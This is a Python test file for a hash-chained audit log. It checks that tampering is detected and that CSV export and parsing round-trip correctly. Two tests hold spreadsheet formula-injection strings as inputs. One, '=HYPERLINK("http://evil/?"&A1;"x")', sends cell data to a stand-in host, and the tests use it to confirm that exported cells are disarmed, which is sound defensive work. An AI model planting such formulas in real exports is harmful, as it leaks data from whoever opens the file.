"""The audit log's chain: whatever is done to it afterwards is noticed, and named by the number of the entry."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.domain.audit import (
    FIRST,
    Act,
    Action,
    AuditError,
    Break,
    Checker,
    Damage,
    Entry,
    Head,
    Part,
    Verdict,
    canonical_json,
    chained,
    entry_of,
    part_of,
    statement_of,
)
from bot.reports.audit_log import read_lines, write_lines, write_statement
from tests.examples import examples

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
TEXTS = st.text(alphabet=st.characters(), max_size=20)
WORDS = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=5,
)
ACTS = st.builds(
    Act,
    actor=TEXTS,
    person_id=st.none() | st.integers(1, 10**6),
    action=st.sampled_from(Action),
    subject=TEXTS,
    project_id=st.none() | st.integers(-5, 10**6),
    details=st.dictionaries(TEXTS, WORDS, max_size=3),
    address=st.sampled_from(["", "192.0.2.1", "2001:db8::1"]),
)


def act(number: int) -> Act:
    return Act("ada", 1, Action.FINDING_DECIDED, f"finding {number}", 5, {"before": "detected", "after": "dismissed"})


def chain(count: int) -> list[Entry]:
    return list(chained([act(number) for number in range(1, count + 1)], Head(), NOON))


def end(entries: Sequence[Entry]) -> Head:
    return Head(entries[-1].sequence, entries[-1].digest) if entries else Head()


def check(entries: Sequence[Entry], head: Head | None, expected: Head | None = None) -> Verdict:
    checker = Checker(whole_log=True, expected=expected)
    for entry in entries:
        checker.feed(entry)
    return checker.finish(head)


def named(verdict: Verdict) -> set[int]:
    return {number for one in verdict.breaks for number in range(one.first, (one.last or one.first) + 1)}


def test_the_digest_is_what_the_handbook_says() -> None:
    (entry,) = chained([act(7)], Head(), NOON)
    by_hand = (
        '{"action":"finding.decided","actor":"ada","address":"","at":"2026-03-01T12:00:00.000000Z",'
        '"details":{"after":"dismissed","before":"detected"},"person_id":1,"previous":"' + FIRST + '",'
        '"project_id":5,"sequence":1,"subject":"finding 7"}'
    )
    assert entry.canonical().decode() == by_hand
    assert entry.digest == hashlib.sha256(by_hand.encode()).hexdigest()


@pytest.mark.parametrize("value", [1.5, {"a": 0.1}, [float("nan")], {1: "x"}, object(), b"x"])
def test_what_has_no_one_text_is_refused(value: Any) -> None:
    with pytest.raises(TypeError):
        canonical_json(value)


@given(st.lists(ACTS, max_size=8))
@settings(max_examples=examples(60), deadline=None)
def test_a_chain_that_nobody_touched_is_whole(acts: list[Act]) -> None:
    entries = chained(acts, Head(), NOON)
    assert [entry.sequence for entry in entries] == list(range(1, len(acts) + 1))
    verdict = check(entries, end(entries), end(entries))
    assert (verdict.whole, verdict.head, verdict.count) == (True, end(entries), len(acts))


CHANGES: list[tuple[str, Any]] = [
    ("actor", "mallory"),
    ("person_id", None),
    ("action", "finding.claimed"),
    ("subject", "finding 0"),
    ("project_id", None),
    ("details", {}),
    ("address", "192.0.2.9"),
    ("at", NOON + timedelta(microseconds=1)),
    ("previous", "1" * 64),
    ("digest", "2" * 64),
]


@given(st.integers(2, 9), st.data(), st.sampled_from(CHANGES), st.booleans())
@settings(max_examples=examples(120), deadline=None)
def test_a_changed_entry_is_named(count: int, data: st.DataObject, change: tuple[str, Any], cover_up: bool) -> None:
    entries, name = chain(count), change[0]
    place = data.draw(st.integers(0, count - 1))
    altered = replace(entries[place], **{name: change[1]})
    if cover_up and name != "digest":
        altered = replace(altered, digest=altered.computed_digest())
    verdict = check([*entries[:place], altered, *entries[place + 1 :]], end(entries))
    assert not verdict.whole
    # With a new digest of its own the entry fits itself, and the next one no longer follows it: both are named there.
    assert named(verdict) & {place + 1, place + 2}
    if not cover_up:
        assert place + 1 in named(verdict)


@given(st.integers(1, 9), st.data())
@settings(max_examples=examples(80), deadline=None)
def test_missing_entries_are_named_each(count: int, data: st.DataObject) -> None:
    entries = chain(count)
    gone = data.draw(st.sets(st.integers(1, count), min_size=1))
    verdict = check([entry for entry in entries if entry.sequence not in gone], end(entries))
    assert named(verdict) == gone
    assert {one.damage for one in verdict.breaks} <= {Damage.MISSING, Damage.CUT}


@given(st.integers(2, 8), st.data())
@settings(max_examples=examples(80), deadline=None)
def test_entries_in_another_order_are_named(count: int, data: st.DataObject) -> None:
    entries = chain(count)
    order = data.draw(st.permutations(range(count)).filter(lambda some: list(some) != list(range(count))))
    verdict = check([entries[place] for place in order], end(entries))
    assert Damage.MISPLACED in {one.damage for one in verdict.breaks}
    moved = {place + 1 for at, place in enumerate(order) if at != place}
    assert named(verdict) & moved


def test_an_entry_that_is_there_twice_is_named() -> None:
    entries = chain(3)
    verdict = check([*entries[:2], entries[1], entries[2]], end(entries))
    assert verdict.breaks == (Break(Damage.TWICE, 2),)


@given(st.integers(1, 8), st.data())
@settings(max_examples=examples(60), deadline=None)
def test_a_log_that_was_rewritten_as_a_whole_does_not_fit_what_somebody_wrote_down(
    count: int, data: st.DataObject
) -> None:
    kept = data.draw(st.integers(1, count))
    old = chain(count)
    from_there = data.draw(st.integers(1, kept))
    acts = [act(number if number != from_there else 99) for number in range(1, count + 1)]
    rewritten = chained(acts, Head(), NOON)
    expected = Head(kept, old[kept - 1].digest)
    assert check(rewritten, end(rewritten)).whole
    verdict = check(rewritten, end(rewritten), expected)
    assert [one.damage for one in verdict.breaks] == [Damage.REWRITTEN]
    assert check(old, end(old), expected).whole


def test_a_log_that_is_shorter_than_it_was_is_cut() -> None:
    entries = chain(6)
    shorter = entries[:4]
    assert check(shorter, end(shorter)).whole
    verdict = check(shorter, end(shorter), end(entries))
    assert verdict.breaks == (Break(Damage.CUT, 5, 6),)
    assert str(verdict.breaks[0]) == "entries 5 to 6 are missing: the log was cut at its end"
    # Behind the head that is kept beside the log somebody added entries.
    assert not check(entries, end(shorter)).whole


def test_a_part_of_a_log_is_checked_by_its_own_bounds() -> None:
    entries = chain(9)[3:7]
    start = Head(3, entries[0].previous)

    def part(some: Sequence[Entry]) -> Verdict:
        checker = Checker(whole_log=False)
        for entry in some:
            checker.feed(entry)
        return checker.finish(end(entries), start)

    assert part(entries).whole
    assert named(part(entries[1:])) == {4}
    assert named(part(entries[:2])) == {6, 7}
    assert named(part([])) == {4, 5, 6, 7}
    assert {one.damage for one in part([entries[1], entries[0], *entries[2:]]).breaks} == {Damage.MISPLACED}


def test_a_head_outside_of_the_part_is_not_called_good() -> None:
    checker = Checker(whole_log=False, expected=Head(1, "a" * 64))
    for entry in chain(9)[5:]:
        checker.feed(entry)
    assert [one.damage for one in checker.finish(None).breaks] == [Damage.UNCHECKED]


@pytest.mark.parametrize("text", ["", "1", "1:", "x:" + "a" * 64, "1:" + "A" * 64, "-1:" + "a" * 64, "1:" + "a" * 63])
def test_what_is_no_head_is_refused(text: str) -> None:
    with pytest.raises(AuditError) as caught:
        Head.parse(text)
    assert caught.value.hint


def test_a_head_is_read_as_it_was_written() -> None:
    assert Head.parse(str(end(chain(3)))) == end(chain(3))


# --- as a file --------------------------------------------------------------------------------------------------------


@given(st.lists(ACTS, max_size=5), st.sampled_from(["jsonl", "csv"]))
@settings(max_examples=examples(60), deadline=None)
def test_a_file_says_exactly_what_the_log_says(acts: list[Act], format: str) -> None:
    entries = chained(acts, Head(), NOON)
    text = "".join(write_lines(entries, format)) + write_statement({"payload": "x"}, format)
    # As a file gives its lines that is opened with newline="".
    *read, last = read_lines(io.StringIO(text, newline=""))
    assert [one.computed_digest() if isinstance(one, Entry) else one for one in read] == [e.digest for e in entries]
    assert last == {"payload": "x"}


@given(st.text(max_size=200))
@settings(max_examples=examples(100), deadline=None)
def test_any_other_text_is_read_without_a_fault(text: str) -> None:
    for line in (text, '{"a":1}\n' + text):
        with suppress(AuditError):
            assert all(one is None or isinstance(one, (Entry, dict)) for one in read_lines(line.splitlines()))


def test_cells_that_a_spreadsheet_would_run_are_disarmed() -> None:
    (entry,) = chained([replace(act(1), subject='=HYPERLINK("http://evil")', actor="'=x")], Head(), NOON)
    text = "".join(write_lines([entry], "csv"))
    assert '"\'=HYPERLINK(""http://evil"")"' in text
    (read,) = read_lines(text.splitlines())
    assert read == entry


def test_nothing_begins_a_formula_where_cells_end_at_semicolons() -> None:
    evil = 'done;=HYPERLINK("http://evil/?"&A1;"x")'
    (entry,) = chained([replace(act(1), subject=evil, actor="a;=1", details={evil: evil})], Head(), NOON)
    text = "".join(write_lines([entry], "csv"))
    for separator in ",;\t":
        for row in csv.reader(text.splitlines(), delimiter=separator):
            assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    (read,) = read_lines(text.splitlines())
    assert read == entry


def test_a_statement_is_read_as_it_was_written() -> None:
    part = Part(Head(3, "a" * 64), Head(7, "b" * 64), 4, Head(9, "c" * 64), NOON)
    assert part_of(statement_of(part)) == part
    for payload in (b"", b"[]", b"{}", b'{"predicate":[]}', statement_of(part).replace(b"audit-head", b"other")):
        with pytest.raises(AuditError):
            part_of(payload)


@pytest.mark.parametrize(
    "change",
    [
        {"sequence": "1"},
        {"sequence": 0},
        {"at": "2026-01-01"},
        {"at": "2026-13-01T00:00:00.000000Z"},
        {"details": []},
        {"details": {"a": 0.5}},
        {"digest": "x"},
        {"actor": None},
        {"person_id": True},
        {"more": 1},
    ],
)
def test_what_is_no_entry_is_refused(change: dict[str, Any]) -> None:
    document = json.loads(json.dumps(chain(1)[0].document())) | change
    with pytest.raises(AuditError):
        entry_of(document)
